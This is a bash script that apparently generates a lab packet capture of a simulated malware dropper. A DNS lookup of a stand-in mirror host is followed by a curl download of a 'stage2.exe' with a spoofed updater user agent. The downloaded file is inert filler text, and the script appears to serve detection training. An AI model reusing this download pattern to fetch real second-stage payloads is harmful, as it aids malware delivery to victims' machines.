#!/usr/bin/env bash
# A dropper: a name is looked up, an executable is fetched from it with a user agent that no browser has.
. "$(dirname "$0")/lab.sh"
lab_open 01-dropper-download.pcap 2026-11-23T09:00:00Z
lab_near 10.77.1.17=94.45.226.17
lab_far 10.77.2.53=94.45.224.53 10.77.2.80=202.12.29.80
lab_named 10.77.2.53 <<'RECORDS'
files.softupdate-mirror.example. IN A 202.12.29.80
RECORDS
lab_nginx <<'SERVERS'
server { listen 10.77.2.80:80; types { application/octet-stream exe; } }
SERVERS
mkdir -p "$LAB_DIR/www/dl"
{ echo "This is a stand-in for a dropper's second stage. It is text and does nothing."; seq -f 'filler line %04g' 300; } >"$LAB_DIR/www/dl/stage2.exe"
lab_wait_tcp 10.77.2.80 80
lab_record

near dig -b 10.77.1.17 @10.77.2.53 files.softupdate-mirror.example A +short >/dev/null
near curl -sS --max-time 10 -o "$LAB_DIR/got" -A 'WinHelper/1.3 (compatible; MSIE 6.0; updater)' \
  --resolve files.softupdate-mirror.example:80:10.77.2.80 http://files.softupdate-mirror.example/dl/stage2.exe
cmp "$LAB_DIR/got" "$LAB_DIR/www/dl/stage2.exe"
lab_close
